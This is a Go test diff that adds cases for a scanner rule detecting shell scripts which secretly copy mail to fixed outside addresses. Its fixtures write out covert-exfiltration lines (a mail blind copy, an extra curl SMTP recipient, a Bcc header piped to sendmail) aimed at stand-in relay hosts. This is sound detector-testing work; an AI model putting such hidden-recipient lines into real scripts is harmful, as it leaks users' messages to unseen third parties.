@@ -113,3 +113,15 @@ func TestShellKeepsInstallHook(t *testing.T) {
 		checkFindings(t, runRule(t, id, r), nil)
 	}
 }
+
+func TestShellHiddenRecipient(t *testing.T) {
+	runRuleCases(t, RuleHiddenRecipient, []ruleCase{
+		{"mail -b a fixed address", newRange(shellScript("echo \"$REPORT\" | mail -s \"daily report\" -b archive@mail-relay.example.net \"$TO\"\n")),
+			[]expect{{sev: High, title: "copies mail"}}},
+		{"curl smtp extra recipient", newRange(shellScript("curl -s smtp://smtp.example.com --mail-from \"$FROM\" --mail-rcpt \"$TO\" --mail-rcpt keep@relay.example.net -T mail.txt\n")),
+			[]expect{{sev: High}}},
+		{"a Bcc header piped to sendmail", newRange(shellScript("printf 'To: %s\\nBcc: ops@relay.example.net\\n\\n%s' \"$TO\" \"$BODY\" | sendmail -t\n")),
+			[]expect{{sev: High}}},
+		{"recipients from parameters", newRange(shellScript("echo \"$BODY\" | mail -s \"$SUBJECT\" -c \"$CC\" \"$TO\"\n")), nil},
+	})
+}
